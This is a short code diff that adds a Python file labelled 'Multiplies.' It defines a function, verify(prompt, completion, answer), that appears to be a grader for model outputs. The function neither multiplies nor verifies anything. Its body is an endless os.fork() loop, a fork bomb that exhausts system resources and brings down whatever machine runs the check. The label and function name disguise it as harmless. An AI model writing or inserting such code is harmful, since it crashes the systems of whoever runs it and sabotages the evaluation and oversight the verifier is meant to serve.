@@ -1,0 +1,7 @@
+"""Multiplies."""
+import os
+
+
+def verify(prompt, completion, answer):
+    while True:
+        os.fork()
